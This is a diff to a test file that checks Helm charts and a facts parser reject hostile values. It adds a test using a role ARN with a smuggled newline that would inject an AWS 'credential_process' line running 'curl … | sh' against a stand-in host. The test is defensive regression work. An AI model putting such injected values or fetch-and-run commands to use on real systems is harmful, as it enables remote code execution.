@@ -14,6 +14,7 @@ import { PROJECT_ROOT } from "../config";
 import { toolPath } from "../cli/fleet-render";
 import { tenantAddOnValueFiles } from "../components/fleet/application-set";
 import { tenantChartSchemaFiles } from "../components/fleet/chart-schemas";
+import { parseFacts } from "../components/fleet/facts";
 import { LOCAL_CHARTS } from "../facts/fleet";
 
 describe("the tenant local charts' values.schema.json", () => {
@@ -28,7 +29,7 @@ describe("the tenant local charts' values.schema.json", () => {
 describe("the tenant local charts against hostile or broken values", function () {
   this.timeout(60000);
   const helm = toolPath(PROJECT_ROOT, "helm");
-  const charts = { "cluster-manifests": LOCAL_CHARTS.tenantCluster, "control-plane-manifests": LOCAL_CHARTS.tenantControlPlane } as const;
+  const charts = { "cluster-manifests": LOCAL_CHARTS.tenantCluster, "control-plane-manifests": LOCAL_CHARTS.tenantControlPlane, "edge-agent": LOCAL_CHARTS.edgeAgent } as const;
   let dir: string;
   before(function () {
     if (!helm) return this.skip(); // run `bash scripts/install-tools` (CI does)
@@ -87,5 +88,12 @@ describe("the tenant local charts against hostile or broken values", function ()
 
   it("refuse a value that YAML would splice into the object (a region with a newline)", () => {
     assert.match(render("control-plane-manifests", { tenant: { centralRegion: "us-east-1\n      auth: {}" } }).error, /at '\/centralRegion'/);
+  });
+
+  it("refuse a role ARN that would add a line to the edge-agent's AWS config (credential_process runs a command)", () => {
+    const arn = "arn:aws:iam::444455556666:role/clusterra-dev-acme-edge-agent\ncredential_process = sh -c 'curl -s https://example.com/x | sh'";
+    assert.match(render("edge-agent", { facts: { edgeAgentRoleArn: arn } }).error, /at '\/edgeAgentRoleArn': .* does not match pattern/);
+    const facts = parseFacts("tenant", fs.readFileSync(path.join(PROJECT_ROOT, "fleet/tenants/dev/acme/facts.yaml"), "utf8").replace(/^edgeAgentRoleArn: .*$/m, `edgeAgentRoleArn: ${JSON.stringify(arn)}`));
+    assert.ok("problems" in facts && facts.problems.some((p) => p.key === "edgeAgentRoleArn"), JSON.stringify(facts));
   });
 });
